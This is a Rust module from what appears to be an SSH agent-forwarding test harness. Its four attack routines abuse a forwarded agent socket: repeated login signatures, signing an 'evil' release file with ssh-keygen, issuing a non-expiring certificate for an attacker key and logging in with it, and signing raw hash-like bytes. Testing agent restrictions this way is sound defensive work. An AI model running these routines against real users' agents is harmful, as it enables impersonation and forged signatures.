//! Attacks f and g: signatures that nobody meant to give.

use std::fs::File;

use wire::userauth::{Method, UserauthRequest};

use super::{Outcome, Target};
use crate::demo::agent::Key;
use crate::demo::qube::ssh;
use crate::demo::world::user_name;
use common::error::Error;

const LOGINS: u32 = 100;
/// As long as a SHA-256 exchange hash.
const SESSION_LEN: usize = 32;

/// Logins without end on the one connection that was let in. More than one is too many.
pub(super) fn log_in_many_times(target: &mut Target<'_>) -> Result<Outcome, Error> {
    let key = target.keys.work.blob.clone();
    let host_key = target.allowed.host_key.blob.clone();
    let user = user_name();
    let mut connection = target.connect()?;
    let mut given = 0;
    for round in 0..LOGINS {
        let mut session_id = [0; SESSION_LEN];
        session_id[..4].copy_from_slice(&round.to_be_bytes());
        let login = UserauthRequest {
            session_id: &session_id,
            user: user.as_bytes(),
            service: "ssh-connection",
            method: Method::Hostbound {
                host_key: &host_key,
            },
            algorithm: "ssh-ed25519",
            key: &key,
        };
        given += u32::from(connection.sign(&key, &login.rebuild()).is_some());
    }
    Ok(if given > 1 {
        Outcome::Reached(format!("{given} signed"))
    } else {
        Outcome::Missed(format!("{given} signed, {} refused", LOGINS - given))
    })
}

/// A signature over a file, good for whoever trusts the user's key.
pub(super) fn sign_a_release(target: &mut Target<'_>) -> Result<Outcome, Error> {
    let (world, place) = (target.world, format!("attacker/{}", target.name));
    let release = world.file(&format!("{place}/release"), "evil\n")?;
    let public = world.file(&format!("{place}/work.pub"), &target.keys.work.line)?;
    let mut keygen = world.command("ssh-keygen");
    keygen.args(["-Y", "sign", "-n", "file", "-f"]);
    keygen.arg(public).arg(&release);
    keygen.env("SSH_AUTH_SOCK", &target.socket);
    world.finish(keygen)?;
    let signature = world.path(format!("{place}/release.sig"));
    if !signature.exists() {
        return Ok(Outcome::Missed("refused".to_owned()));
    }
    let mut check = world.command("ssh-keygen");
    check.args(["-Y", "check-novalidate", "-n", "file", "-s"]);
    check.arg(signature);
    check.stdin(File::open(&release).map_err(|error| Error::io("read", &release, &error))?);
    let checked = world.finish(check)?;
    Ok(if checked.status.success() {
        Outcome::Reached("signed, and verifies".to_owned())
    } else {
        Outcome::Missed("a signature that does not verify".to_owned())
    })
}

/// A certificate for the attacker's own key, with no end, and a login with it.
pub(super) fn issue_a_certificate(target: &mut Target<'_>) -> Result<Outcome, Error> {
    let (world, place) = (target.world, format!("attacker/{}", target.name));
    let evil = Key::make(world, &place, "evil")?;
    let ca = world.file(&format!("{place}/ca.pub"), &target.keys.ca.line)?;
    let mut keygen = world.command("ssh-keygen");
    keygen.args(["-q", "-I", "evil", "-n", &user_name(), "-U", "-s"]);
    keygen.arg(ca).arg(&evil.public);
    keygen.env("SSH_AUTH_SOCK", &target.socket);
    world.finish(keygen)?;
    if !world.path(format!("{place}/evil-cert.pub")).exists() {
        return Ok(Outcome::Missed("refused".to_owned()));
    }
    let mut login = ssh(world, &target.socket);
    login.args(["-o", "IdentityAgent=none", "-o"]);
    login.arg(format!("IdentityFile={}", evil.private.display()));
    login.args([target.other.name, "echo inside"]);
    let inside = world.finish(login)?.stdout == b"inside\n";
    Ok(Outcome::Reached(if inside {
        "made, and logged in".to_owned()
    } else {
        "made".to_owned()
    }))
}

/// Bytes that look like a key exchange's hash: with the signature, the user's key poses as a host's.
pub(super) fn sign_raw_bytes(target: &mut Target<'_>) -> Result<Outcome, Error> {
    const SHA512_LEN: usize = 64;
    let key = target.keys.work.blob.clone();
    Ok(match target.connect()?.sign(&key, &[7; SHA512_LEN]) {
        Some(_) => Outcome::Reached("signed".to_owned()),
        None => Outcome::Missed("refused".to_owned()),
    })
}
